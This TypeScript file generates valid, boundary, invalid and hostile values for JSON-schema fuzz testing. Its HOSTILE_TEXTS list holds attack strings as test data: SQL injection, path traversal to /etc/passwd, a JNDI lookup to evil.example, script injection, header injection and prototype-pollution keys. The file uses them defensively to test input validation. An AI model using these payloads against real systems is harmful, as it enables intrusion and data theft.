/** Values for a JSON schema: good ones, ones at its edges, ones that it refuses, and ones that nobody sends in good faith. */

export type Random = () => number;

/** The part of JSON Schema that the document uses. */
export interface Schema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  propertyNames?: Schema;
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
}

export type Kind = 'valid' | 'boundary' | 'invalid' | 'hostile';

const MOST_ITEMS = 3;
const LONGEST = 70_000;

export const pick = <T>(random: Random, values: readonly T[]): T => values[Math.floor(random() * values.length)]!;

/** Tried for patterns: one of them is of the right form. */
const FORMS = ['a', 'control', 'quality_filtering.thresholds.min_overall', '123456789012345678', '2026-01-02', 'Aa0', '1'];
const WORDS = [
  'a',
  'water main',
  'Ärger über 10 %',
  '明日の天気',
  'https://valley.example/bridge',
  'sample:harbour-debate',
  'post_download',
];

export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202egpj.exe',
  "' OR 1=1; DROP TABLE run; --",
  '../../../../etc/passwd',
  '%00',
  '%',
  '\u0024{jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'NaN',
  '1e400',
  '-0',
  '9223372036854775808',
  '2026-02-30T25:61:61Z',
  '00000000-0000-0000-0000-000000000000',
  'http://[::1]:5432/',
  'http://user:pw@valley.example/',
  'a'.repeat(5_000),
  '😀'.repeat(2_000),
  '%s%n%x',
  'line\r\nSet-Cookie: a=b',
  '(a+)+$',
  '\\',
  "'",
  '"',
  '%_',
];

const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  -1e308,
  5e-324,
  2 ** 53,
  2 ** 63,
  0.1,
  [],
  {},
  [[[[[[]]]]]],
  { __proto__: 1, constructor: { prototype: 1 } },
  { toString: 1, length: -1 },
];

/** valueFor makes a value of a kind; one part of it is what makes it that kind. */
export function valueFor(schema: Schema, kind: Kind, random: Random): unknown {
  if (kind === 'valid') return validValue(schema, random);
  if (kind === 'boundary') return boundaryValue(schema, random);
  return spoiled(validValue(schema, random), schema, kind, random);
}

function validValue(schema: Schema, random: Random): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return pick(random, schema.enum);
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants) return validValue(pick(random, variants), random);
  switch (typeOf(schema)) {
    case 'object':
      return validObject(schema, random);
    case 'array': {
      const count = (schema.minItems ?? 0) + Math.floor(random() * MOST_ITEMS);
      return Array.from({ length: Math.min(count, schema.maxItems ?? count) }, () => validValue(schema.items ?? {}, random));
    }
    case 'string':
      return validText(schema, random);
    case 'integer':
    case 'number':
      return validNumber(schema, random);
    case 'boolean':
      return random() < 0.5;
    case 'null':
      return null;
    default:
      return pick(random, [0, 1, 'a', true, null]);
  }
}

const typeOf = ({ type, properties }: Schema): string | undefined => (Array.isArray(type) ? type[0] : (type ?? (properties && 'object')));

function validObject({ properties = {}, required = [], additionalProperties, propertyNames }: Schema, random: Random): object {
  const wanted = Object.entries(properties).filter(([name]) => required.includes(name) || random() < 0.4);
  const own = Object.fromEntries(wanted.map(([name, schema]) => [name, validValue(schema, random)]));
  if (typeof additionalProperties !== 'object' || random() < 0.5) return own;
  return { ...own, [String(validValue(propertyNames ?? { type: 'string' }, random))]: validValue(additionalProperties, random) };
}

function validText({ format, pattern, minLength = 0, maxLength = 60 }: Schema, random: Random): string {
  if (format === 'uuid') return '00000000-0000-7000-8000-00000000000a';
  if (format === 'date-time') return new Date(Date.UTC(2026, 0, 1 + Math.floor(random() * 300))).toISOString();
  if (format === 'date') return '2026-03-04';
  if (format === 'uri') return 'https://valley.example/hook';
  const fits = (text: string) => text.length >= minLength && text.length <= maxLength && (!pattern || new RegExp(pattern, 'u').test(text));
  const fitting = [...WORDS, ...FORMS].filter(fits);
  return fitting.length > 0 ? pick(random, fitting) : 'a'.repeat(minLength);
}

function validNumber(schema: Schema, random: Random): number {
  const [low, high] = limits(schema);
  const value = low + random() * (Math.min(high, low + 100) - low);
  return schema.type === 'integer' ? Math.round(value) : value;
}

/** Within what the schema says, or else a span around zero. */
function limits({ minimum, maximum, exclusiveMinimum, exclusiveMaximum }: Schema): [number, number] {
  const low = minimum ?? (exclusiveMinimum === undefined ? 0 : exclusiveMinimum + 1e-6);
  const high = maximum ?? (exclusiveMaximum === undefined ? low + 100 : exclusiveMaximum - 1e-6);
  return [low, high];
}

function boundaryValue(schema: Schema, random: Random): unknown {
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants) return boundaryValue(pick(random, variants), random);
  if (schema.enum || schema.const !== undefined) return validValue(schema, random);
  switch (typeOf(schema)) {
    case 'object': {
      const value = validObject({ ...schema, required: Object.keys(schema.properties ?? {}) }, random) as Record<string, unknown>;
      const names = Object.keys(schema.properties ?? {});
      if (names.length === 0) return value;
      const name = pick(random, names);
      return { ...value, [name]: boundaryValue(schema.properties![name]!, random) };
    }
    case 'array': {
      const count = random() < 0.5 ? (schema.minItems ?? 0) : Math.min(schema.maxItems ?? 50, 500);
      return Array.from({ length: count }, () => validValue(schema.items ?? {}, random));
    }
    case 'string': {
      if (schema.format || schema.pattern) return validText(schema, random);
      const length = random() < 0.5 ? (schema.minLength ?? 0) : Math.min(schema.maxLength ?? 1_000, LONGEST);
      return 'x'.repeat(length);
    }
    case 'integer':
    case 'number': {
      const [low, high] = limits(schema);
      return random() < 0.5 ? low : high;
    }
    default:
      return validValue(schema, random);
  }
}

/** One place of a good value is made bad. What was an object may lose what is required, or gain what is not known. */
function spoiled(value: unknown, schema: Schema, kind: 'invalid' | 'hostile', random: Random): unknown {
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants && random() < 0.5) return spoiled(value, pick(random, variants), kind, random);
  if (value === null || typeof value !== 'object' || random() < 0.1) return bad(schema, kind, random);
  if (Array.isArray(value)) {
    if (value.length === 0 || random() < 0.2) return [...value, bad(schema.items ?? {}, kind, random)];
    return value.map((item, i) => (i === 0 ? spoiled(item, schema.items ?? {}, kind, random) : item));
  }
  const { properties = {}, required = [] } = schema;
  const draw = random();
  if (draw < 0.15) return { ...value, [kind === 'hostile' ? pick(random, HOSTILE_TEXTS) : 'not_a_field']: 1 };
  if (draw < 0.3 && required.length > 0) {
    const missing = pick(random, required);
    return Object.fromEntries(Object.entries(value).filter(([name]) => name !== missing));
  }
  const names = Object.keys(properties);
  if (names.length === 0) return { ...value, not_a_field: 1 };
  const name = pick(random, names);
  const before = (value as Record<string, unknown>)[name] ?? validValue(properties[name]!, random);
  return { ...value, [name]: spoiled(before, properties[name]!, kind, random) };
}

function bad(schema: Schema, kind: 'invalid' | 'hostile', random: Random): unknown {
  if (kind === 'hostile') return random() < 0.7 ? pick(random, HOSTILE_TEXTS) : pick(random, HOSTILE_VALUES);
  const [low, high] = limits(schema);
  switch (typeOf(schema)) {
    case 'integer':
    case 'number':
      return pick<unknown>(random, [low - 1, high + 1, 'many', null, low + 0.5]);
    case 'string':
      return pick<unknown>(random, [1, null, [], 'x'.repeat((schema.maxLength ?? 5_000) + 1), '']);
    case 'boolean':
      return pick<unknown>(random, ['true', 1, null]);
    default:
      return pick<unknown>(random, ['text', 7, null, [{}]]);
  }
}
